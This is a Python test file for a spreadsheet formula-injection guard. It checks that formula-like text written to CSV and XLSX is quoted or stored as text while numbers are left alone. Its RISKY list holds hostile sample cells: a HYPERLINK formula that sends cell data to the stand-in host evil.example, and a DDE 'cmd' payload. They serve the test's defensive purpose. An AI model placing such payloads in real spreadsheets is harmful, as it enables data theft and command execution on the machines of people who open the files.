"""Spreadsheet cells safe to open: formula-like text written as text, numbers left alone."""

from __future__ import annotations

import csv

import pandas as pd
from openpyxl import Workbook, load_workbook

from safeground.record.cells import csv_cell, safe_frame, xlsx_append

RISKY = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0",
         "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_formula_like_text_gets_a_quote_in_csv_and_numbers_do_not():
    for text in RISKY:
        assert csv_cell(text) == "'" + text
    for same in ("-5", "-12.5", "+3", "-1e-3", "plain", "2021-05-01", "", "a=b"):
        assert csv_cell(same) == same
    for value in (-5, -12.5, 0, None, True):
        assert csv_cell(value) is value


def test_a_frame_keeps_its_numbers_and_quotes_its_formula_like_text(tmp_path):
    frame = pd.DataFrame({"name": ["ok", RISKY[0], "-7"], "m2": [-1.5, 2.0, -3.0],
                          "n": [-1, 2, 3]})
    out = safe_frame(frame)
    assert frame["name"][1] == RISKY[0]                     # the caller's frame untouched
    out.to_csv(tmp_path / "f.csv", index=False)
    with (tmp_path / "f.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name"] for r in rows] == ["ok", "'" + RISKY[0], "-7"]
    assert [float(r["m2"]) for r in rows] == [-1.5, 2.0, -3.0]
    numbers = frame[["m2", "n"]]
    assert safe_frame(numbers) is numbers                    # nothing to quote: no copy


def test_xlsx_cells_hold_formula_like_text_as_text(tmp_path):
    wb = Workbook()
    xlsx_append(wb.active, [*RISKY, -5, "-5", 2.5])
    wb.save(tmp_path / "b.xlsx")
    row = next(load_workbook(tmp_path / "b.xlsx").active.iter_rows())
    for cell, text in zip(row, RISKY, strict=False):
        assert cell.value == text and cell.data_type == "s", text
    assert row[len(RISKY)].value == -5 and row[len(RISKY)].data_type == "n"
    assert row[-1].value == 2.5 and row[-1].data_type == "n"
